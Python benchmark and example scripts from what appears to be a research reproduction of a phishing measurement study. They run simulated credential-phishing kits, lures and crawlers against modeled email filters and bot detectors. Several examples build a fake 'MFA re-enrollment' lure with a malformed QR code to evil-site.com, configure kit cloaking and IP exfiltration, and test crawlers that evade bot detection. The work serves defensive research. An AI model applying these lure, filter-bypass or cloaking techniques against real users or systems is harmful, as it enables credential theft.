from repro.kits.brands import COMPANY_BRANDS
from repro.kits.lures import build_credential_lure
from repro.mail.parser import EmailParser
from repro.web.network import Network

#: Three commercial-filter models: (name, parser, catches_faulty_qr_expected)
FILTER_MODELS = (
    ("SecureGateway-A (strict URL validation)", EmailParser(lenient_qr=False), False),
    ("MailShield-B (strict URL validation)", EmailParser(lenient_qr=False), False),
    ("PhishBlock-C (lenient extraction)", EmailParser(lenient_qr=True), True),
)


def _faulty_qr_messages(count: int = 20):
    network = Network()
    kit = CredentialKit(COMPANY_BRANDS[0], CredentialKitOptions(block_cloud_ips=False))
    deployment = kit.deploy(network, "faulty-qr-bench.example", ip="185.9.9.9", cert_issued_at=0.0)
    rng = random.Random(11)
    return [
        build_credential_lure(deployment, f"victim{i}@corp.example", f"tok{i:04d}", 5.0, rng,
                              embed_as="faulty_qr")
        for i in range(count)
    ]


def bench_sec5c_faulty_qr_filters(benchmark, comparison):
    messages = _faulty_qr_messages()

    def run_filters():
        results = {}
        for name, parser, _ in FILTER_MODELS:
            caught = 0
            for message in messages:
                urls = parser.parse(message).unique_urls()
                caught += any("faulty-qr-bench.example" in url for url in urls)
            results[name] = caught
        return results

    results = benchmark.pedantic(run_filters, rounds=2, iterations=1)
    failing = 0
    for name, _, expected_catch in FILTER_MODELS:
        caught = results[name]
        verdict = "extracts URL" if caught == len(messages) else "MISSES URL (message classified benign)"
        if caught == 0:
            failing += 1
        comparison.row(f"  {name}", "per paper role", f"{verdict} ({caught}/{len(messages)})")
    comparison.row("commercial tools failing to detect the link", "2 of 3", f"{failing} of 3")
    comparison.row("CrawlerBox (lenient, mobile-camera behaviour)", "extracts URL",
                   "extracts URL" if results[FILTER_MODELS[2][0]] == len(messages) else "FAILS")
    assert failing == 2
