"""Table I: assessment of open-source crawlers vs bot-detection tools.

Runs all eight crawlers against live BotD / Turnstile / AnonWAF models
and compares the verdict matrix against the paper's table.
"""

from repro.crawlers.assessment import assess_all_crawlers

PAPER_TABLE1 = {
    "kangooroo": (False, False, False),
    "lacus": (True, False, False),
    "puppeteer-stealth": (True, False, False),
    "selenium-stealth": (False, False, False),
    "undetected-chromedriver": (True, False, True),
    "nodriver": (True, True, True),
    "selenium-driverless": (True, True, True),
    "notabot": (True, True, True),
}


def bench_table1_crawler_assessment(benchmark, comparison):
    rows = benchmark(assess_all_crawlers, 7)
    matches = 0
    for row in rows:
        measured = (row.passes_botd, row.passes_turnstile, row.passes_anonwaf)
        paper = PAPER_TABLE1[row.crawler]
        matches += measured == paper

        def fmt(cells):
            return "/".join("pass" if cell else "FAIL" for cell in cells)

        comparison.row(f"{row.crawler} (BotD/Turnstile/AnonWAF)", fmt(paper), fmt(measured))
    comparison.row("rows matching the paper", "8/8", f"{matches}/8")
    comparison.row(
        "crawlers bypassing all three tools",
        "3 (Nodriver, Selenium-Driverless, NotABot)",
        sorted(row.crawler for row in rows if row.passes_all),
    )
    assert matches == 8
