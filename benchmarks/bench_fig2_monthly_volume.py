"""Figure 2: scanned messages per month + the 2023 comparison t-test."""

from repro.analysis.figures import figure2


def bench_fig2_monthly_volume(benchmark, full_records, comparison, calibration):
    figure = benchmark(figure2, full_records)
    comparison.row("total scanned messages", calibration.total_malicious, sum(figure.monthly_2024))
    comparison.row("mean messages/month 2024", 518.1, round(figure.mean_2024, 1))
    comparison.row("std messages/month 2024", 278.4, round(figure.std_2024, 1))
    comparison.row("mean messages/month 2023", 885.2, round(figure.mean_2023, 1))
    comparison.row("std messages/month 2023", 454.7, round(figure.std_2023, 1))
    comparison.row("final three months of 2023", "(1959, 1533, 1249)", figure.monthly_2023[-3:])
    comparison.row("paired t-test p-value", 0.008, round(figure.t_test.p_value, 4))
    comparison.row("null hypothesis rejected at alpha=0.05", True, figure.t_test.significant())
    comparison.note("")
    comparison.note(f"monthly series 2024: {list(figure.monthly_2024)}")
    comparison.note(f"monthly series 2023: {list(figure.monthly_2023)}")
    comparison.note("(pairing: within-year volume rank; the paper does not state its pairing)")
    assert figure.t_test.significant()
    assert figure.mean_2023 > figure.mean_2024
