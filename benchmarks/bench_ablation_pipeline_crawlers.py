"""Ablation: the same corpus analyzed with weaker crawling components.

The paper's central argument made quantitative: cloaking works — a
pipeline built on a detectable crawler never *sees* most of the
phishing. NotABot's stealth is what makes the measurement study
possible at all.
"""

from repro.analysis.crawler_impact import measure_crawler_impact


def bench_ablation_pipeline_crawlers(benchmark, full_corpus, comparison):
    results = benchmark.pedantic(
        measure_crawler_impact,
        args=(full_corpus,),
        kwargs={"sample_size": 150},
        rounds=1,
        iterations=1,
    )
    comparison.note("Credential-phishing messages re-analyzed with each crawler as the")
    comparison.note("pipeline's crawling component (same messages, same world):")
    comparison.note("")
    by_name = {}
    for result in results:
        by_name[result.crawler] = result
        comparison.row(
            f"  {result.crawler}: active-phishing recall",
            "cloaking defeats naive crawlers",
            f"{result.detected_active}/{result.phishing_messages} ({100 * result.recall:.0f}%)",
        )
    comparison.note("")
    comparison.note("(the gap is the cloaking working: Turnstile interstitials, webdriver-")
    comparison.note(" gated reveals, and decoy redirects hide the login forms)")
    assert by_name["notabot"].recall >= 0.99
    assert by_name["kangooroo"].recall < 0.5
    assert by_name["puppeteer-stealth"].recall < 0.5
