"""Figure 3: domain registration / TLS issuance to delivery timelines."""

from repro.analysis.figures import figure3


def bench_fig3_timedeltas(benchmark, full_corpus, full_records, comparison, calibration):
    summary = benchmark(figure3, full_records, full_corpus.world.network)
    comparison.row("landing domains analysed", calibration.distinct_landing_domains, summary.n_domains)
    comparison.row("median timedeltaA (hours)", 575, round(summary.median_timedelta_a))
    comparison.row("median timedeltaB (hours)", 185, round(summary.median_timedelta_b))
    comparison.row("kurtosis timedeltaA", 8.4, round(summary.kurtosis_a, 1))
    comparison.row("kurtosis timedeltaB", 6.8, round(summary.kurtosis_b, 1))
    comparison.row("domains with timedeltaA > 90 days", 102, summary.over_90d_a)
    comparison.row("domains with timedeltaB > 90 days", 5, summary.over_90d_b)
    comparison.row("  of which compromised", 4, summary.over_90d_b_compromised)
    comparison.row("outlier domains (A>273d or B>45d)", 71, summary.outliers)
    comparison.row("  compromised small businesses", 20, summary.outlier_compromised)
    comparison.row("  abused legitimate services", 9, summary.outlier_abused_services)
    comparison.note("")
    comparison.note(f"histogram A (first 14 days): {summary.histogram_a_days[:14]}")
    comparison.note(f"histogram B (first 14 days): {summary.histogram_b_days[:14]}")
    assert summary.median_timedelta_a > summary.median_timedelta_b
    assert summary.kurtosis_a > 2.0 and summary.kurtosis_b > 2.0
    assert summary.over_90d_a > summary.over_90d_b
