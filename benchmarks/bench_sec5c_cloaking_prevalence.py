"""Section V-C.2: prevalence of client- and server-side cloaking."""

from repro.analysis.figures import section5c_evasion


def bench_sec5c_cloaking_prevalence(benchmark, full_records, comparison, calibration):
    prevalence = benchmark.pedantic(section5c_evasion, args=(full_records,), rounds=2, iterations=1)
    comparison.row("credential-harvesting messages (denominator)",
                   calibration.credential_harvesting_messages, prevalence.credential_messages)
    comparison.row("Cloudflare Turnstile", "943 (74.4%)",
                   f"{prevalence.turnstile} ({100 * prevalence.turnstile_fraction:.1f}%)")
    comparison.row("Google reCAPTCHA v3", "314 (24.8%)",
                   f"{prevalence.recaptcha} ({100 * prevalence.recaptcha_fraction:.1f}%)")
    comparison.row("console-method hijacking", ">=295", prevalence.console_hijack)
    comparison.row("debugger-statement timers", ">=10", prevalence.debugger_timer)
    comparison.row("context-menu / devtools blocking", 39, prevalence.context_menu_block)
    comparison.row("UA + timezone + language cloak", 15, prevalence.ua_tz_lang_cloak)
    comparison.row("BotD + FingerprintJS kits", 5, prevalence.fingerprint_libraries)
    if prevalence.fingerprint_library_window:
        start, end = prevalence.fingerprint_library_window
        comparison.row("  reception window", "Jul 9-18 (one punctual campaign)",
                       f"hours {start:.0f}-{end:.0f} (single campaign window)")
    comparison.row("httpbin.org IP collection", 145, prevalence.httpbin)
    comparison.row("ipapi.co enrichment", 83, prevalence.ipapi)
    comparison.row("hue-rotate(4deg) messages", 103, prevalence.hue_rotate_messages)
    comparison.row("hue-rotate(4deg) pages", 167, prevalence.hue_rotate_pages)
    comparison.row("OTP-gated", 47, prevalence.otp_gate)
    comparison.row("custom math challenge", 11, prevalence.math_challenge)
    comparison.note("")
    comparison.note("shared obfuscated scripts across domains (victim tracking):")
    for cluster in prevalence.shared_script_clusters[:4]:
        comparison.note(
            f"  {cluster.kind}: {cluster.n_domains} domains / {cluster.n_messages} messages"
        )
    comparison.note("(paper: variant A 38 domains/151 messages, variant B 57/143)")
    assert 0.70 <= prevalence.turnstile_fraction <= 0.78
    assert 0.21 <= prevalence.recaptcha_fraction <= 0.28
    victim_checks = [c for c in prevalence.shared_script_clusters if c.kind == "victim-check"]
    assert len(victim_checks) >= 2
