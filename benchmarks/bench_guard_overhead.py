"""Hardening overhead: the ingestion guard + per-line CRC must be noise.

Compares two configurations over the same corpus slice, interleaved
(A/B per round, best-of across rounds, so machine jitter cancels):

- **baseline** — guard disabled, work budget unlimited, v1 checkpoint
  lines (no CRC suffix): the pre-hardening hot path;
- **hardened** — the shipping defaults: structural guard on every
  message, the default work budget active, CRC32 on every checkpoint
  line.

The guard walk is O(parts) arithmetic, budget charges are one attribute
check per ~1024 JS steps, and the CRC is one ``zlib.crc32`` per record
— against a pipeline that crawls and screenshots every URL, the total
must stay under :data:`MAX_OVERHEAD_PCT` (3% by default; override with
``REPRO_BENCH_MAX_OVERHEAD``, 0 disables the gate).

Also runnable standalone::

    PYTHONPATH=src python benchmarks/bench_guard_overhead.py
"""

import argparse
import json
import os
import sys
import time

from repro.core import CrawlerBox, PipelineConfig
from repro.core.export import export_records
from repro.runner import CheckpointStore, CorpusRunner

SAMPLE_SIZE = 60
ROUNDS = 5

BENCH_SCALE = float(os.environ.get("REPRO_BENCH_SCALE", "1.0"))
BENCH_SEED = int(os.environ.get("REPRO_BENCH_SEED", "2024"))

#: Maximum tolerated hardened-over-baseline overhead, in percent
#: (<= 0 disables the assertion and merely reports the measurement).
MAX_OVERHEAD_PCT = float(os.environ.get("REPRO_BENCH_MAX_OVERHEAD", "3.0"))

BASELINE_CONFIG = PipelineConfig(guard_enabled=False, budget_work_units=None)


def _run_once(corpus, sample, config, checkpoint_dir, crc: bool):
    """One checkpointed jobs=1 run; returns (elapsed, export JSON)."""
    box = CrawlerBox.for_world(corpus.world, config=config)
    store = CheckpointStore(checkpoint_dir, crc=crc)
    runner = CorpusRunner(box_factory=lambda worker_id: box, jobs=1,
                          checkpoint=store)
    started = time.perf_counter()
    result = runner.run(sample)
    elapsed = time.perf_counter() - started
    assert not result.dead_letters
    assert len(result.records) == len(sample)
    return elapsed, json.dumps(export_records(result.records))


def _measure(corpus, sample, scratch, rounds: int):
    """Best-of-``rounds`` seconds for baseline and hardened, interleaved."""
    import shutil

    times = {"baseline": [], "hardened": []}
    exports = {}
    for round_index in range(rounds):
        for name, config, crc in (
            ("baseline", BASELINE_CONFIG, False),
            ("hardened", None, True),  # None = PipelineConfig() defaults
        ):
            directory = scratch / f"{name}-{round_index}"
            elapsed, export = _run_once(
                corpus, sample, config or PipelineConfig(), directory, crc)
            times[name].append(elapsed)
            exports[name] = export
            shutil.rmtree(directory, ignore_errors=True)
    best = {name: min(values) for name, values in times.items()}
    overhead_pct = 100.0 * (best["hardened"] - best["baseline"]) / best["baseline"]
    return best, overhead_pct, exports


def bench_guard_overhead(benchmark, full_corpus, comparison, tmp_path):
    sample = full_corpus.messages[:SAMPLE_SIZE]
    best, overhead_pct, exports = _measure(full_corpus, sample, tmp_path, ROUNDS)

    comparison.row("baseline best (s, guard off, no CRC)", "n/a",
                   f"{best['baseline']:.3f}")
    comparison.row("hardened best (s, guard + budget + CRC)", "n/a",
                   f"{best['hardened']:.3f}")
    comparison.row("hardening overhead", f"< {MAX_OVERHEAD_PCT:.1f}%",
                   f"{overhead_pct:+.2f}%")
    # Hardening must change *nothing* about clean-corpus records.
    identical = exports["baseline"] == exports["hardened"]
    comparison.row("records byte-identical with hardening on", True, identical)
    comparison.metric("baseline_seconds", best["baseline"])
    comparison.metric("hardened_seconds", best["hardened"])
    comparison.metric("overhead_pct", overhead_pct)
    comparison.metric("max_overhead_pct", MAX_OVERHEAD_PCT)
    comparison.metric("byte_identical", identical)
    comparison.metric("messages", len(sample))
    comparison.metric("rounds", ROUNDS)

    assert identical
    if MAX_OVERHEAD_PCT > 0:
        assert overhead_pct < MAX_OVERHEAD_PCT, (
            f"hardening overhead {overhead_pct:.2f}% exceeds "
            f"{MAX_OVERHEAD_PCT:.1f}%")

    benchmark.pedantic(
        lambda: CrawlerBox.for_world(full_corpus.world).analyze_corpus(sample),
        rounds=1, iterations=1)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--sample", type=int, default=SAMPLE_SIZE,
                        help=f"messages to analyse (default {SAMPLE_SIZE})")
    parser.add_argument("--rounds", type=int, default=ROUNDS,
                        help=f"interleaved rounds, best-of (default {ROUNDS})")
    args = parser.parse_args(argv)

    import pathlib
    import tempfile

    from repro.dataset import CorpusGenerator

    print(f"Generating corpus (seed={BENCH_SEED}, scale={BENCH_SCALE}) ...")
    corpus = CorpusGenerator(seed=BENCH_SEED, scale=BENCH_SCALE).generate()
    sample = corpus.messages[:args.sample]
    print(f"  {len(sample)} messages, {args.rounds} interleaved rounds")

    with tempfile.TemporaryDirectory() as scratch:
        best, overhead_pct, exports = _measure(
            corpus, sample, pathlib.Path(scratch), args.rounds)
    print(f"  baseline (guard off, no CRC): {best['baseline']:.3f}s")
    print(f"  hardened (guard+budget+CRC):  {best['hardened']:.3f}s")
    print(f"  overhead: {overhead_pct:+.2f}% "
          f"(gate: < {MAX_OVERHEAD_PCT:.1f}%)")
    identical = exports["baseline"] == exports["hardened"]
    print(f"  records byte-identical = {identical}")
    if not identical:
        return 1
    if MAX_OVERHEAD_PCT > 0 and overhead_pct >= MAX_OVERHEAD_PCT:
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
