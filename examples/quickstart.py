#!/usr/bin/env python3
"""Quickstart: run the whole study end-to-end at reduced scale.

Generates a calibrated synthetic world (phishing kits deployed on a
simulated internet plus the user-reported message corpus), analyses
every message with CrawlerBox/NotABot, and prints the headline numbers
next to the paper's.

    python3 examples/quickstart.py [scale]

``scale`` defaults to 0.15 (~780 messages, a few seconds); 1.0
regenerates the full 5,181-message study.
"""

import sys
import time

from repro import CorpusGenerator, CrawlerBox, summarize
from repro.analysis import figures
from repro.core.outcomes import MessageCategory


def main() -> None:
    scale = float(sys.argv[1]) if len(sys.argv) > 1 else 0.15

    print(f"Generating the world and corpus (scale={scale}) ...")
    started = time.time()
    corpus = CorpusGenerator(seed=2024, scale=scale).generate()
    print(f"  {len(corpus.messages)} reported-malicious messages, "
          f"{len(corpus.domain_plans)} phishing landing domains "
          f"({time.time() - started:.1f}s)")

    print("Analysing every message with CrawlerBox (NotABot crawler) ...")
    started = time.time()
    box = CrawlerBox.for_world(corpus.world)
    records = box.analyze_corpus(corpus.messages)
    print(f"  done in {time.time() - started:.1f}s "
          f"({1000 * (time.time() - started) / len(records):.1f} ms/message)\n")

    findings = summarize(records)
    breakdown = figures.outcome_breakdown(records)

    print("Outcome breakdown (paper: 49.6% / 15.9% / 4.5% / 0.1% / 29.9%):")
    for label, category in (
        ("no web resources", MessageCategory.NO_RESOURCES),
        ("error pages", MessageCategory.ERROR),
        ("interaction required", MessageCategory.INTERACTION),
        ("downloads", MessageCategory.DOWNLOAD),
        ("active phishing", MessageCategory.ACTIVE_PHISHING),
    ):
        print(f"  {label:<22s} {breakdown.count(category):>5d}  "
              f"({100 * breakdown.fraction(category):.1f}%)")

    active = breakdown.count(MessageCategory.ACTIVE_PHISHING)
    print(f"\nSpear phishing (paper: 73.3% of active): "
          f"{findings.spear_messages}/{active} "
          f"({100 * findings.spear_messages / active:.1f}%)")
    print(f"Messages passing SPF+DKIM+DMARC (paper: all): "
          f"{findings.auth_all_pass}/{findings.total_messages}")
    print(f"Faulty-QR messages recovered by lenient extraction: {findings.faulty_qr_messages}")

    evasion = figures.section5c_evasion(records)
    print(f"\nCloudflare Turnstile prevalence (paper: 74.4%): "
          f"{100 * evasion.turnstile_fraction:.1f}%")
    print(f"reCAPTCHA v3 prevalence (paper: 24.8%): "
          f"{100 * evasion.recaptcha_fraction:.1f}%")
    print("Shared obfuscated victim-tracking scripts:")
    for cluster in evasion.shared_script_clusters:
        if cluster.kind == "victim-check":
            print(f"  one script on {cluster.n_domains} domains / {cluster.n_messages} messages")


if __name__ == "__main__":
    main()
