#!/usr/bin/env python3
"""Threat-intel pivoting over the attacker infrastructure graph.

Builds the domain/IP/sender/shared-script pivot graph from an analyzed
corpus, clusters it into campaigns, and demonstrates the analyst
workflow: start from one landing domain and walk shared infrastructure
to its siblings — exactly how the paper's shared obfuscated scripts
("one script on 38 distinct domains") expose campaign structure.

    python3 examples/campaign_pivoting.py [scale]
"""

import sys
import time

from repro import CorpusGenerator, CrawlerBox
from repro.analysis.infrastructure import (
    build_infrastructure_graph,
    cluster_campaigns,
    pivot_from_domain,
    summarize_infrastructure,
)


def main() -> None:
    scale = float(sys.argv[1]) if len(sys.argv) > 1 else 0.15
    print(f"Generating and analysing the corpus (scale={scale}) ...")
    started = time.time()
    corpus = CorpusGenerator(seed=2024, scale=scale).generate()
    box = CrawlerBox.for_world(corpus.world)
    records = box.analyze_corpus(corpus.messages)
    print(f"  {len(records)} messages in {time.time() - started:.1f}s\n")

    graph = build_infrastructure_graph(records)
    campaigns = cluster_campaigns(graph)
    summary = summarize_infrastructure(records)

    print(f"Pivot graph: {graph.number_of_nodes()} nodes, {graph.number_of_edges()} edges")
    print(f"Campaign clusters: {summary.n_campaigns} "
          f"({summary.singleton_campaigns} singletons — the paper's low-volume finding,")
    print(f"  structurally: most landing domains share nothing with any other)\n")

    print("Largest campaigns (stitched together by shared obfuscated scripts):")
    for campaign in campaigns[:3]:
        glue = ", ".join(campaign.shared_scripts) or "shared hosting/sender only"
        print(f"  {campaign.size} domains  [{glue}]")
        for domain in campaign.domains[:4]:
            print(f"      {domain}")
        if campaign.size > 4:
            print(f"      ... and {campaign.size - 4} more")

    seed_domain = campaigns[0].domains[0]
    related = pivot_from_domain(graph, seed_domain)
    print(f"\nAnalyst pivot from {seed_domain!r}:")
    print(f"  {len(related)} related landing domains within 2 hops "
          "(via the identical victim-check dropper)")
    for domain in related[:6]:
        print(f"    -> {domain}")
    print("\nTakeaway: even meticulously separated low-volume campaigns leak")
    print("linkability through reused kit code — the defender's counterpart of")
    print("Merlo et al.'s 90%-code-reuse observation cited in the paper.")


if __name__ == "__main__":
    main()
