#!/usr/bin/env python3
"""Figure 3 as ASCII art: the phishing deployment timeline.

Reproduces the registration->delivery (timedeltaA) and TLS->delivery
(timedeltaB) distributions over the landing domains and renders the
under-90-day histograms, plus the outlier breakdown.

    python3 examples/campaign_timeline.py [scale]
"""

import sys
import time

from repro import CorpusGenerator, CrawlerBox
from repro.analysis.figures import figure3
from repro.analysis.timeline import compute_timelines


def sparkline(counts: list[int], width: int = 90, bucket: int = 6) -> str:
    blocks = " .:-=+*#%@"
    merged = [sum(counts[i : i + bucket]) for i in range(0, len(counts), bucket)]
    top = max(merged) or 1
    return "".join(blocks[min(9, int(9 * value / top))] for value in merged)


def main() -> None:
    scale = float(sys.argv[1]) if len(sys.argv) > 1 else 0.25
    print(f"Generating and analysing the corpus (scale={scale}) ...")
    started = time.time()
    corpus = CorpusGenerator(seed=2024, scale=scale).generate()
    box = CrawlerBox.for_world(corpus.world)
    records = box.analyze_corpus(corpus.messages)
    print(f"  {len(records)} messages analysed in {time.time() - started:.1f}s\n")

    summary = figure3(records, corpus.world.network)
    print(f"Landing domains: {summary.n_domains}")
    print(f"median timedeltaA (registration -> delivery): {summary.median_timedelta_a:.0f} h "
          f"(~{summary.median_timedelta_a / 24:.0f} days; paper: 575 h / 24 days)")
    print(f"median timedeltaB (TLS issuance -> delivery): {summary.median_timedelta_b:.0f} h "
          f"(~{summary.median_timedelta_b / 24:.0f} days; paper: 185 h / 8 days)")
    print(f"kurtosis: A={summary.kurtosis_a:.1f}, B={summary.kurtosis_b:.1f} "
          "(fat-tailed, right-skewed; paper: 8.4 / 6.8)\n")

    print("Domain count per timedelta under 90 days (one bucket = 6 days):")
    print(f"  A |{sparkline(summary.histogram_a_days)}|")
    print(f"  B |{sparkline(summary.histogram_b_days)}|")
    print("     0d" + " " * 9 + "~30d" + " " * 9 + "~60d" + " " * 9 + "~90d\n")

    print(f"Domains with timedeltaA > 90 days: {summary.over_90d_a} (paper: 102)")
    print(f"Domains with timedeltaB > 90 days: {summary.over_90d_b} (paper: 5), "
          f"of which compromised: {summary.over_90d_b_compromised} (paper: 4)")
    print(f"Outliers (A > 273 d or B > 45 d): {summary.outliers} (paper: 71)")
    print(f"  compromised small businesses: {summary.outlier_compromised} (paper: 20)")
    print(f"  abused legitimate services:   {summary.outlier_abused_services} (paper: 9)\n")

    timelines = compute_timelines(records, corpus.world.network)
    abused = [t for t in timelines if t.is_outlier and t.domain.endswith(
        ("vercel.app", "cloudflare-ipfs.com", "workers.dev", "r2.dev", "oraclecloud.com", "cloudfront.net"))]
    print("Sample abused-service landing hosts (legitimate infrastructure):")
    for timeline in abused[:5]:
        print(f"  {timeline.domain}  (service registered "
              f"{timeline.timedelta_a / 24 / 365:.1f} years before the campaign)")
    print("\nTakeaway (paper Section VI): attackers register domains and obtain")
    print("certificates weeks ahead, defeating products that score domains by age.")


if __name__ == "__main__":
    main()
