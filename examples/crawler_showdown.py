#!/usr/bin/env python3
"""Table I live: eight crawlers vs BotD, Turnstile, and AnonWAF.

Every cell is computed by actually crawling a freshly protected site
with the crawler's fingerprint profile — nothing is table-driven.
Also prints the NotABot ablation: which detector catches the crawler
when each counter-measure is removed.

    python3 examples/crawler_showdown.py
"""

from repro.crawlers.assessment import (
    assess_all_crawlers,
    run_anonwaf_test,
    run_botd_test,
    run_turnstile_test,
)
from repro.crawlers.notabot import NOTABOT_KNOCKOUTS, notabot_profile_without


def mark(passed: bool) -> str:
    return " pass " if passed else " FAIL "


def main() -> None:
    print("Assessment of open-source crawlers vs SOTA bot-detection tools")
    print("(paper Table I; computed live against the modeled services)\n")
    header = f"{'crawler':<26s}|{'BotD':^8s}|{'Turnstile':^11s}|{'AnonWAF':^9s}|"
    print(header)
    print("-" * len(header))
    for row in assess_all_crawlers():
        print(
            f"{row.crawler:<26s}|{mark(row.passes_botd):^8s}|"
            f"{mark(row.passes_turnstile):^11s}|{mark(row.passes_anonwaf):^9s}|"
        )
    print("\nNotABot ablation — remove one counter-measure at a time:\n")
    header = f"{'knockout':<28s}|{'BotD':^8s}|{'Turnstile':^11s}|{'AnonWAF':^9s}|"
    print(header)
    print("-" * len(header))
    for knockout in NOTABOT_KNOCKOUTS:
        profile = notabot_profile_without(knockout)
        cells = (
            run_botd_test(profile),
            run_turnstile_test(profile),
            run_anonwaf_test(profile)[0],
        )
        print(f"{knockout:<28s}|{mark(cells[0]):^8s}|{mark(cells[1]):^11s}|{mark(cells[2]):^9s}|")
    print("\nEvery Section IV-C design choice is load-bearing: knocking any of")
    print("them out re-exposes at least one detection signal.")


if __name__ == "__main__":
    main()
