#!/usr/bin/env python3
"""The faulty-QR filter bug, end to end (Section V-C.1).

Encodes a genuinely malformed QR payload ("xxx https://...") into a real
QR symbol, renders it into an email image attachment, and shows how a
strict email-filter parser extracts nothing while the lenient
mobile-camera behaviour (and CrawlerBox) recovers the URL.

    python3 examples/quishing_filter_bug.py
"""

from repro.imaging.image import Image
from repro.imaging.render import render_lines
from repro.mail.message import ContentType, EmailMessage, MessagePart
from repro.mail.parser import EmailParser
from repro.qr.encoder import qr_image
from repro.qr.scanner import decode_qr_image, extract_url_lenient, extract_url_strict
from repro.qr.tables import ECLevel

PAYLOAD = "xxx https://evil-site.com/mfa-reenroll/dhfYWfH"


def main() -> None:
    print(f"1. Attacker encodes the faulty payload into a QR symbol:\n   {PAYLOAD!r}\n")
    symbol = qr_image(PAYLOAD, ec_level=ECLevel.L, scale=3)
    print(f"   QR symbol: {symbol.width}x{symbol.height} px "
          f"({(symbol.width // 3) - 8} modules/side, Reed-Solomon EC level L)")

    banner = render_lines(["YOUR MFA ENROLLMENT EXPIRES TODAY", "SCAN WITH YOUR PHONE TO RE-ENROLL"], scale=2)
    canvas = Image.new(max(banner.width, symbol.width) + 16, banner.height + symbol.height + 24)
    canvas.paste(banner, 8, 6)
    canvas.paste(symbol, 8, banner.height + 12)

    message = EmailMessage(sender="it-helpdesk@notify.example", subject="MFA re-enrollment required")
    message.add_part(MessagePart.text("Please scan the attached code with your phone."))
    message.add_part(MessagePart(ContentType.IMAGE, canvas, filename="mfa_qr.png"))

    print("\n2. The raster round trip (locate -> sample -> RS-decode):")
    decoded = decode_qr_image(canvas)
    print(f"   decoded payload: {decoded!r}")
    assert decoded == PAYLOAD

    print("\n3. URL extraction policies diverge:")
    print(f"   strict (email-filter style):  {extract_url_strict(decoded)!r}")
    print(f"   lenient (mobile-camera style): {extract_url_lenient(decoded)!r}")

    print("\n4. Full message-level comparison:")
    strict_urls = EmailParser(lenient_qr=False).parse(message).unique_urls()
    lenient_urls = EmailParser(lenient_qr=True).parse(message).unique_urls()
    print(f"   strict filter extracts:  {strict_urls}  -> message classified benign")
    print(f"   CrawlerBox extracts:     {lenient_urls}")

    print("\n5. Why it matters: the victim's phone opens the URL over its mobile")
    print("   connection, outside the corporate security perimeter, while the")
    print("   email filter saw no URL at all.  The paper found 35 such messages")
    print("   and 2 of 3 leading commercial filters failing the extraction")
    print("   (both fixed after responsible disclosure).")


if __name__ == "__main__":
    main()
