#!/usr/bin/env python3
"""Analyst workflow: dissect one maximally evasive phishing email.

Builds a message that stacks the paper's evasions — base64-encoded body,
noise padding, a *faulty* QR code, a Turnstile-protected landing site
with victim-check gating, console hijacking, and hue-rotation — then
walks it through CrawlerBox and prints every artifact the pipeline logs.

    python3 examples/analyze_single_email.py
"""

import random

from repro.core import CrawlerBox
from repro.dataset.world import World
from repro.kits.brands import COMPANY_BRANDS
from repro.kits.credential import CredentialKit, CredentialKitOptions
from repro.kits.lures import build_credential_lure
from repro.mail.auth import DomainMailPolicy


def main() -> None:
    rng = random.Random(7)
    world = World(seed=7)

    print("1. Attacker deploys a credential kit on a pre-registered domain ...")
    options = CredentialKitOptions(
        use_turnstile=True,
        victim_check_variant="a",
        hue_rotate=True,
        context_menu_block=True,
        ip_exfiltration="httpbin+ipapi",
        hotlink_brand_resources=True,
        block_cloud_ips=False,
    )
    kit = CredentialKit(COMPANY_BRANDS[0], options, recaptcha=world.recaptcha)
    deployment = kit.deploy(world.network, "cedar-orchid.com", ip="185.44.1.9", cert_issued_at=0.0)
    world.register_deployment(deployment)
    from repro.web.whois import WhoisRecord

    # Registered 24 days before delivery — the paper's median lead time.
    world.network.whois.register(
        WhoisRecord("cedar-orchid.com", "NameCheap", created=100.0 - 575.0, expires=9000.0)
    )
    world.shodan.add_https_host("185.44.1.9")
    print(f"   landing domain: {deployment.domain}")
    print("   features: turnstile + victim-check(a) + hue-rotate + "
          "brand hotlinking + IP exfiltration + context-menu blocking")

    print("\n2. Attacker sends the lure (faulty QR + noise padding + base64 body) ...")
    message = build_credential_lure(
        deployment, "ana.martin@corp.amatravel.example", "dhfYWfH", delivered_at=100.0,
        rng=rng, embed_as="faulty_qr", noise_padding=True, base64_body=True,
    )
    world.mail_dns.publish(
        DomainMailPolicy(message.sending_domain, spf_allowed_ips=frozenset({message.sending_ip}))
    )
    print(f"   QR payload (syntactically invalid URL!): {message.ground_truth['qr_payload']!r}")

    print("\n3. The recipient reports it; CrawlerBox analyses it ...")
    box = CrawlerBox.for_world(world)
    record = box.analyze(message)

    print(f"\n   authentication: SPF={record.auth.spf} DKIM={record.auth.dkim} "
          f"DMARC={record.auth.dmarc} (evades auth-based filtering)")
    print(f"   noise padding detected: {record.noise_padded}")
    print("   extracted URLs (with provenance):")
    for item in record.extraction.urls:
        print(f"     [{item.method}] {item.part_path}: {item.url}")

    for crawl in record.crawls:
        print(f"\n   crawl of {crawl.url}")
        print(f"     chain: {' -> '.join(crawl.url_chain) or crawl.outcome}")
        print(f"     HTTP statuses: {crawl.http_statuses} "
              f"(403 = Turnstile interstitial, cleared without interaction)")
        print(f"     page class: {crawl.page_class}")
        print(f"     TLS certificate: {crawl.certificate_fingerprint[:16]}... "
              f"issued at t={crawl.certificate_not_before:.0f}h")
        signals = crawl.signals
        print(f"     client-side evasions observed: console_hijacked={signals.console_hijacked} "
              f"context_menu_blocked={signals.context_menu_blocked} "
              f"hue_rotation={signals.hue_rotation_deg}deg")
        print(f"     fingerprint probes: navigator.{{{', '.join(sorted(set(signals.navigator_reads))[:5])}}} "
              f"+ Intl timezone={signals.intl_timezone_read}")
        print(f"     AJAX calls: {list(crawl.ajax_urls)}")
        hotlinks = [url for url, kind, _ in crawl.resource_requests if "amatravel" in url]
        print(f"     resources hotlinked from the impersonated brand: {hotlinks}")

    print(f"\n   verdict: category={record.category}, "
          f"spear-phishing match={record.spear_brand} "
          f"(pHash/dHash distances {record.spear_distances})")
    print(f"   attacker-side: C2 received {len(deployment.exfiltrated_client_data)} "
          f"exfiltrated client profile(s): {deployment.exfiltrated_client_data}")

    enrichment = next(iter(record.enrichments.values()))
    print(f"\n   enrichment: registrar={enrichment.whois.registrar}, "
          f"first cert in CT at t={enrichment.first_cert_issued_at:.0f}h, "
          f"Shodan banners={[b.banner for b in enrichment.shodan_banners]}")


if __name__ == "__main__":
    main()
